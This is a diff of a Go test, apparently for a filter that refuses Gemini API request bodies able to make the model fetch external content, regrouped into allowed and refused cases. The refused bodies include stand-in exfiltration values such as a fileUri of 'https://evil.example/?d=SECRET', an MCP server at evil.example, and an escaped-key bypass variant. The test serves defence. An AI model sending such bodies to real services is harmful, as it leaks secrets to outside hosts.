@@ -123,25 +123,34 @@ func TestResponsesFetches(t *testing.T) {
 // declarations and Google Search pass; urlContext, any other tool, and a
 // file by URI anywhere in the contents are refused.
 func TestGeminiFetches(t *testing.T) {
-	for body, refused := range map[string]bool{
-		`{"contents":[{"role":"user","parts":[{"text":"hi fileData urlContext"}]}],"tools":[{"functionDeclarations":[{"name":"web_fetch","parametersJsonSchema":{"properties":{"fileUri":{"type":"string"}}}}]}],"generationConfig":{"responseJsonSchema":{"properties":{"fileData":{}}}}}`: false,
-		`{"contents":[{"role":"user","parts":[{"text":"x"}]}],"tools":[{"googleSearch":{}}]}`:                                                                   false,
-		`{"model":"m","project":"p","request":{"contents":[{"parts":[{"inlineData":{"mimeType":"image/png","data":"AA=="}}]}],"tools":[{"google_search":{}}]}}`: false,
-		`{"contents":[],"tools":[{"urlContext":{}}]}`:                                                                                                           true,
-		`{"contents":[],"tools":[{"url_context":{}}]}`:                                                                                                          true,
-		`{"contents":[],"tools":[{"URLContext":{}}]}`:                                                                                                           true,
-		`{"contents":[],"tools":[{"functionDeclarations":[],"codeExecution":{}}]}`:                                                                              true,
-		`{"contents":[],"tools":[{"googleSearch":{}},{"mcpServers":[{"url":"https://evil.example"}]}]}`:                                                         true,
-		`{"contents":[],"cachedContent":"cachedContents/abc"}`:                                                                                                  true,
-		`{"request":{"contents":[],"tools":[{"urlContext":{}}]}}`:                                                                                               true,
-		`{"contents":[{"parts":[{"fileData":{"fileUri":"https://evil.example/?d=SECRET"}}]}]}`:                                                                  true,
-		`{"contents":[{"parts":[{"file_data":{"file_uri":"gs://bucket/x"}}]}]}`:                                                                                 true,
-		`{"systemInstruction":{"parts":[{"fileData":{"fileUri":"files/abc"}}]}}`:                                                                                true,
-		`{"contents":[{"parts":[{"functionResponse":{"name":"x","parts":[{"fileData":{"fileUri":"https://evil.example"}}]}}]}]}`:                                true,
-		`{"request":{"contents":[{"parts":[{"fil\u0065Data":{"fileUri":"https://evil.example"}}]}]}}`:                                                           true,
+	for _, c := range []struct {
+		bodies  []string
+		refused bool
+	}{
+		{[]string{
+			`{"contents":[{"role":"user","parts":[{"text":"hi fileData urlContext"}]}],"tools":[{"functionDeclarations":[{"name":"web_fetch","parametersJsonSchema":{"properties":{"fileUri":{"type":"string"}}}}]}],"generationConfig":{"responseJsonSchema":{"properties":{"fileData":{}}}}}`,
+			`{"contents":[{"role":"user","parts":[{"text":"x"}]}],"tools":[{"googleSearch":{}}]}`,
+			`{"model":"m","project":"p","request":{"contents":[{"parts":[{"inlineData":{"mimeType":"image/png","data":"AA=="}}]}],"tools":[{"google_search":{}}]}}`,
+		}, false},
+		{[]string{
+			`{"contents":[],"tools":[{"urlContext":{}}]}`,
+			`{"contents":[],"tools":[{"url_context":{}}]}`,
+			`{"contents":[],"tools":[{"URLContext":{}}]}`,
+			`{"contents":[],"tools":[{"functionDeclarations":[],"codeExecution":{}}]}`,
+			`{"contents":[],"tools":[{"googleSearch":{}},{"mcpServers":[{"url":"https://evil.example"}]}]}`,
+			`{"contents":[],"cachedContent":"cachedContents/abc"}`,
+			`{"request":{"contents":[],"tools":[{"urlContext":{}}]}}`,
+			`{"contents":[{"parts":[{"fileData":{"fileUri":"https://evil.example/?d=SECRET"}}]}]}`,
+			`{"contents":[{"parts":[{"file_data":{"file_uri":"gs://bucket/x"}}]}]}`,
+			`{"systemInstruction":{"parts":[{"fileData":{"fileUri":"files/abc"}}]}}`,
+			`{"contents":[{"parts":[{"functionResponse":{"name":"x","parts":[{"fileData":{"fileUri":"https://evil.example"}}]}}]}]}`,
+			`{"request":{"contents":[{"parts":[{"fil\u0065Data":{"fileUri":"https://evil.example"}}]}]}}`,
+		}, true},
 	} {
-		if _, err := checked(geminiAPI, body); (err != nil) != refused {
-			t.Errorf("%s: refused %v (%v), want %v", body, err != nil, err, refused)
+		for _, body := range c.bodies {
+			if _, err := checked(geminiAPI, body); (err != nil) != c.refused {
+				t.Errorf("%s: refused %v (%v), want %v", body, err != nil, err, c.refused)
+			}
 		}
 	}
 }
